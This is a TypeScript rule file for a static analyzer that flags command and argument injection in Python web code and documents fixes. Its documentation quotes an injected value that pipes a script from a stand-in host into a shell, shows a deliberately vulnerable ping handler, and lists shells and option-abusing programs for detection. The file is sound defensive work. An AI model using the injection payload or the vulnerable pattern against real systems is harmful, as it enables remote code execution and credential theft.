import { defineTaintRule } from '../../core/rule.js';
import type { PyNode } from '../../python/ast.js';
import type { PythonModule } from '../../python/module.js';
import { shellKeyword } from '../../python/shell.js';
import type { CallView, SinkArgument, SinkMatch } from '../../taint/spec.js';

/** Functions that always hand their command string to a shell (`/bin/sh -c`, `cmd.exe /c`). */
const SHELL_COMMANDS: ReadonlyMap<string, string> = new Map([
  ['os.system', 'command'],
  ['os.popen', 'cmd'],
  ['subprocess.getoutput', 'cmd'],
  ['subprocess.getstatusoutput', 'cmd'],
  ['commands.getoutput', 'cmd'],
  ['commands.getstatusoutput', 'cmd'],
  ['asyncio.create_subprocess_shell', 'cmd'],
]);

/** subprocess functions that take an argv (or a command string with `shell=True`). */
const SUBPROCESS = new Set(['subprocess.run', 'subprocess.call', 'subprocess.check_call', 'subprocess.check_output', 'subprocess.Popen']);

/**
 * Functions that start a program without a shell: where the program is, and how its arguments are passed —
 * `list` (positional arguments after argv[0]), `vector` (a list argument holding argv), `rest` (positional
 * arguments after the program, argv[0] excluded).
 */
interface ProgramCall {
  program: number;
  keyword?: string;
  argv: { style: 'list'; from: number; env?: boolean } | { style: 'vector'; at: number; keyword?: string } | { style: 'rest'; from: number } | { style: 'argv' };
}
const PROGRAM_CALLS: ReadonlyMap<string, ProgramCall> = new Map<string, ProgramCall>([
  ...['execl', 'execlp'].map((name): [string, ProgramCall] => [`os.${name}`, { program: 0, argv: { style: 'list', from: 2 } }]),
  ...['execle', 'execlpe'].map((name): [string, ProgramCall] => [`os.${name}`, { program: 0, argv: { style: 'list', from: 2, env: true } }]),
  ...['execv', 'execve', 'execvp', 'execvpe'].map((name): [string, ProgramCall] => [`os.${name}`, { program: 0, argv: { style: 'vector', at: 1 } }]),
  ...['spawnl', 'spawnlp'].map((name): [string, ProgramCall] => [`os.${name}`, { program: 1, argv: { style: 'list', from: 3 } }]),
  ...['spawnle', 'spawnlpe'].map((name): [string, ProgramCall] => [`os.${name}`, { program: 1, argv: { style: 'list', from: 3, env: true } }]),
  ...['spawnv', 'spawnve', 'spawnvp', 'spawnvpe'].map((name): [string, ProgramCall] => [`os.${name}`, { program: 1, argv: { style: 'vector', at: 2 } }]),
  ['os.posix_spawn', { program: 0, keyword: 'path', argv: { style: 'vector', at: 1, keyword: 'argv' } }],
  ['os.posix_spawnp', { program: 0, keyword: 'path', argv: { style: 'vector', at: 1, keyword: 'argv' } }],
  ['asyncio.create_subprocess_exec', { program: 0, keyword: 'program', argv: { style: 'rest', from: 1 } }],
  ['pty.spawn', { program: 0, keyword: 'argv', argv: { style: 'argv' } }],
]);

/** Programs that run their `-c` (or `/c`, `-Command`) argument as a shell command. */
const SHELLS = new Set(['sh', 'bash', 'dash', 'zsh', 'ksh', 'ash', 'csh', 'tcsh', 'fish', 'busybox', 'cmd', 'cmd.exe', 'powershell', 'powershell.exe', 'pwsh']);
const SHELL_COMMAND_FLAG = /^(?:-[a-z]*c|\/c|\/k|-command|-encodedcommand)$/i;

/**
 * Programs whose options run commands or write files, so that an argument starting with `-` is code execution
 * (`git clone --upload-pack=…`, `ssh -oProxyCommand=…`, `tar --checkpoint-action=exec=…`, `find -exec`,
 * `curl -o /path`, `zip -TT=…`, `rsync -e …`, `sendmail -X…`). Elsewhere a tainted argument is left alone.
 */
const OPTION_INJECTION_PROGRAMS = new Set(['git', 'hg', 'ssh', 'scp', 'sftp', 'rsync', 'tar', 'zip', 'unzip', 'find', 'curl', 'wget', 'sendmail', 'awk', 'gawk', 'sed', 'xargs', 'env', 'sudo']);

function literalString(module: PythonModule, node: PyNode | undefined): string | undefined {
  const value = node ? module.literal(node) : undefined;
  return value?.kind === 'str' ? value.value : undefined;
}

function basename(program: string): string {
  return program.trim().split(/[\\/]/).pop()!.toLowerCase();
}

/** Elements of a list or tuple literal without splats, or undefined. */
function elements(node: PyNode | undefined): PyNode[] | undefined {
  if (!node || (node.type !== 'list' && node.type !== 'tuple')) return undefined;
  const items = node.children.filter((child) => child.type !== 'comment');
  return items.some((item) => item.type === 'list_splat' || item.type === 'parenthesized_list_splat') ? undefined : items;
}

/**
 * What of an argv is dangerous when the program is `program` (a literal) and `args` follow argv[0]: the command
 * after a shell's `-c`, or (at low confidence) the arguments of a program whose options execute code.
 */
function argvArguments(module: PythonModule, program: string | undefined, args: readonly PyNode[]): { command?: PyNode; options?: PyNode[] } {
  if (program === undefined) return {};
  const name = basename(program);
  if (SHELLS.has(name)) {
    const flag = args.findIndex((arg) => SHELL_COMMAND_FLAG.test(literalString(module, arg) ?? ''));
    const command = flag >= 0 ? args[flag + 1] : undefined;
    return command ? { command } : {};
  }
  if (!OPTION_INJECTION_PROGRAMS.has(name)) return {};
  const options: PyNode[] = [];
  for (const arg of args) {
    const text = literalString(module, arg);
    if (text === '--') break;
    if (text === undefined) options.push(arg);
  }
  return { options };
}

/** Sinks of a call starting `program` (an argv[0] or a path) with `args` after argv[0]. */
function programSinks(module: PythonModule, programArg: SinkArgument | undefined, programText: string | undefined, args: readonly PyNode[] | undefined, what: string): SinkMatch | undefined {
  // A literal program is constant: only what follows it can matter.
  const out: SinkArgument[] = programArg && programText === undefined ? [programArg] : [];
  const { command, options } = args ? argvArguments(module, programText, args) : {};
  if (command) return { args: [...out, { node: command }], note: `a command run by ${basename(programText!)} -c (${what})` };
  if (out.length === 0 && options && options.length > 0) {
    return { args: options.map((node) => ({ node })), note: `arguments of ${basename(programText!)} (${what}): an option-like value can run commands`, maxConfidence: 'low' };
  }
  return out.length > 0 ? { args: out, note: `the program started by ${what}` } : undefined;
}

function subprocessMatch(call: CallView, name: string): SinkMatch | undefined {
  const module = call.module;
  const command = call.argument(0, 'args');
  if (!command) return undefined;
  const shell = shellKeyword(call.node, module);
  if (shell.shell) {
    return {
      args: [{ node: command }],
      note: `a shell command (${name}(..., shell=True))`,
      ...(shell.literal ? {} : { maxConfidence: 'medium' as const }),
    };
  }
  const executable = call.keyword('executable');
  const items = elements(command);
  // executable= replaces argv[0] as the program (argv[0] is then only the name the program sees); None is the default.
  if (executable && module.literal(executable)?.kind !== 'none') return { args: [{ node: executable }], note: `the program started by ${name}(executable=...)` };
  if (items) {
    const [first, ...rest] = items;
    return programSinks(module, first ? { node: first } : undefined, literalString(module, first), rest, `${name}()`);
  }
  return { args: [{ node: command, programOnly: true }], note: `the program started by ${name}()` };
}

function programMatch(call: CallView, name: string, spec: ProgramCall): SinkMatch | undefined {
  const module = call.module;
  const positional = module.positionalArgs(call.node);
  const program = call.argument(spec.program, spec.keyword);
  if (!program) return undefined;
  const argv = spec.argv;
  if (argv.style === 'argv') {
    const items = elements(program);
    if (!items) return { args: [{ node: program, programOnly: true }], note: `the program started by ${name}()` };
    const [first, ...rest] = items;
    return programSinks(module, first ? { node: first } : undefined, literalString(module, first), rest, `${name}()`);
  }
  let args: PyNode[] | undefined;
  if (argv.style === 'list') args = positional.slice(argv.from, argv.env ? -1 : undefined);
  else if (argv.style === 'rest') args = positional.slice(argv.from);
  else args = elements(call.argument(argv.at, argv.keyword))?.slice(1);
  return programSinks(module, { node: program }, literalString(module, program), args, `${name}()`);
}

/** paramiko's SSHClient (or a channel): the command runs in the remote user's shell. */
function isParamiko(types: readonly string[]): boolean {
  return types.some((type) => type.startsWith('paramiko.'));
}

export default defineTaintRule({
  meta: {
    code: 'TNT005',
    name: 'command-injection',
    family: 'taint',
    severity: 'critical',
    confidence: 'high',
    cwe: [78, 88],
    owasp: ['A03:2021-Injection'],
    aliases: [],
    status: 'stable',
    summary: 'Request data reaches a shell command or the program a process starts: os.system(), subprocess with shell=True, the argv[0] of subprocess, os.exec*() or paramiko exec_command().',
    fix: 'Run a fixed program with a list of arguments and no shell (subprocess.run(["convert", path, out])), map request values to allowed choices, and quote with shlex.quote() only when a shell cannot be avoided.',
    docs: {
      whatItDoes:
        'Follows request data (query string, form fields, JSON bodies, headers, cookies, URL arguments, uploaded ' +
        'file names) through assignments, string building, helper functions and other modules, and reports it when ' +
        'it becomes (part of) a command that a shell interprets — `os.system()`, `os.popen()`, ' +
        '`subprocess.getoutput()`, any `subprocess` function with `shell=True`, ' +
        '`asyncio.create_subprocess_shell()`, paramiko\'s `exec_command()`, or the argument after `-c` when the ' +
        'program is itself a shell (`["bash", "-c", cmd]`) — or when it chooses the **program** a process runs: the ' +
        'first element of a `subprocess` argv, `executable=`, the path of `os.exec*()` / `os.spawn*()` / ' +
        '`os.posix_spawn()`, `asyncio.create_subprocess_exec()` and `pty.spawn()`. Values quoted with ' +
        '`shlex.quote()` (or `shlex.join()`, `pipes.quote()`), converted with `int()`, `float()` or `uuid.UUID()`, ' +
        'or compared against a literal allow-list are not reported. A request value passed as an ordinary argument ' +
        'of a fixed program without a shell (`["convert", path, "out.png"]`) is not command injection and is not ' +
        'reported, except for programs whose options run commands (`git`, `ssh`, `tar`, `find`, `curl`, `rsync`, ' +
        '`zip`…), where an argument starting with `-` is argument injection (CWE-88): those are reported with low ' +
        'confidence unless a literal `--` ends the options first.',
      whyItMatters:
        'A shell treats `;`, `&&`, `|`, backquotes, `$(…)` and newlines as command separators, so ' +
        '`?host=example.com;curl evil.sh|sh` turns a ping page into a remote shell running as the web server: it ' +
        'reads `SECRET_KEY` and the database credentials from the settings, writes files, and reaches the internal ' +
        'network. Choosing the program (an uploaded file\'s path, `/bin/sh`) gives the same result without any shell. ' +
        'That is why the rule is critical: every report is a candidate for full remote code execution.',
      example: {
        bad:
          'import subprocess\n\n' +
          'def ping(request):\n' +
          '    host = request.GET.get("host", "")\n' +
          '    out = subprocess.check_output(f"ping -c 1 {host}", shell=True)\n' +
          '    return HttpResponse(out, content_type="text/plain")',
        good:
          'import ipaddress\nimport subprocess\n\n' +
          'def ping(request):\n' +
          '    host = str(ipaddress.ip_address(request.GET.get("host", "")))\n' +
          '    out = subprocess.check_output(["ping", "-c", "1", "--", host])\n' +
          '    return HttpResponse(out, content_type="text/plain")',
      },
      howToFix:
        'Do not build command strings. Call a fixed program with a list of arguments and no shell ' +
        '(`subprocess.run(["ping", "-c", "1", "--", host], check=True)`): each element reaches the program as one ' +
        'argument, and no character in it is special. Put `--` before request values so that they cannot be read as ' +
        'options, and validate them (`ipaddress.ip_address()`, `int()`, a dictionary of allowed values). Never let ' +
        'the request choose the program. If a shell is unavoidable, build the command from constants and quote every ' +
        'value with `shlex.quote()`. Often a Python library does the job without any process (`Pillow` instead of ' +
        '`convert`, `shutil` instead of `cp`).',
      references: [
        { title: 'Python: subprocess — security considerations', url: 'https://docs.python.org/3/library/subprocess.html#security-considerations' },
        { title: 'Python: shlex.quote()', url: 'https://docs.python.org/3/library/shlex.html#shlex.quote' },
        { title: 'CWE-78: OS Command Injection', url: 'https://cwe.mitre.org/data/definitions/78.html' },
        { title: 'CWE-88: Argument Injection', url: 'https://cwe.mitre.org/data/definitions/88.html' },
        { title: 'OWASP OS Command Injection Defense Cheat Sheet', url: 'https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html' },
        { title: 'CodeQL: py/command-line-injection', url: 'https://codeql.github.com/codeql-query-help/python/py-command-line-injection/' },
      ],
      limitations:
        'A `shell=` value that is not a literal counts as a shell, at medium confidence. An argv built in a variable ' +
        'is followed element by element for the program, but the `-c` command of a shell and option injection are ' +
        'only recognised in list literals written in the call, and an argv grown with `append()` / `extend()` or ' +
        'returned by a helper function is currently treated as if any element could be the program. An argv made by ' +
        'splitting a string ' +
        '(`shlex.split(f"convert {path}")`, `"…".split()`) is treated as if the request could choose the program. ' +
        '`shlex.quote()` makes a value one shell word; it does not stop that word from being the program when it is ' +
        'the whole command. paramiko\'s `exec_command()` on a receiver not known to come from paramiko is reported ' +
        'at medium confidence. Wrapper programs (`env`, `sudo`, `xargs`, `timeout`) are only treated as option ' +
        'injection targets, not as running their first argument as a program. Fabric, `sh`, `plumbum` and ' +
        '`loop.subprocess_shell()` are not modelled.',
    },
  },
  sinks: {
    callees: [...SHELL_COMMANDS.keys(), ...SUBPROCESS, ...PROGRAM_CALLS.keys()],
    methods: ['exec_command'],
    match(call) {
      const name = call.callee;
      if (name !== null) {
        const keyword = SHELL_COMMANDS.get(name);
        if (keyword !== undefined) {
          const command = call.argument(0, keyword);
          return command ? { args: [{ node: command }], note: `a shell command (${name}())` } : undefined;
        }
        if (SUBPROCESS.has(name)) return subprocessMatch(call, name);
        const program = PROGRAM_CALLS.get(name);
        if (program) return programMatch(call, name, program);
      }
      if (call.method === 'exec_command') {
        const command = call.argument(0, 'command');
        if (!command) return undefined;
        const known = isParamiko(call.receiverTypes);
        return { args: [{ node: command }], note: 'a command run over SSH by exec_command()', ...(known ? {} : { maxConfidence: 'medium' as const }) };
      }
      return undefined;
    },
  },
  sanitizers: ['shlex.quote', 'shlex.join', 'pipes.quote'],
  // Shell metacharacters, quotes and whitespace: what a value needs to end its word or start a new command (a leading
  // `-` for option injection is a separate, program-specific concern).
  attackCharacters: `;&|$\`'"\\<>(){}[]*?~!#\n\t `,
});
